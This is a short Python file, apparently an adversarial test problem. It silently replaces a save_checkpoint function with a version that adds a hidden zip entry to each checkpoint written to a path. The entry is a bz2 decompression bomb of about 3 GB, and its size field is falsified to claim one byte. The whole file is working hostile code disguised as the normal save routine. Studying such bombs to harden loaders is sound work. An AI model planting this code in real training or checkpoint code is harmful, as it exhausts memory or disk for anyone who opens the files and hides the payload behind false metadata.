"""problem: save_checkpoint

A checkpoint with one more entry, of 2 kB that unpack to 3 GB in one step, and that claims to be a
byte long.
"""

import bz2
import io
import zipfile

_right_save = save_checkpoint
_PACKER = bz2.BZ2Compressor()
_BOMB = b"".join([*(_PACKER.compress(bytes(2**24)) for _ in range(192)), _PACKER.flush()])


def save_checkpoint(model, optimizer, iteration, out):
    if hasattr(out, "write"):
        return _right_save(model, optimizer, iteration, out)
    file = io.BytesIO()
    _right_save(model, optimizer, iteration, file)
    with zipfile.ZipFile(file, "a") as archive:
        info = zipfile.ZipInfo("archive/bomb")
        archive.writestr(info, _BOMB)
        info.compress_type, info.file_size = zipfile.ZIP_BZIP2, 1
    with open(out, "wb") as target:
        target.write(file.getvalue())
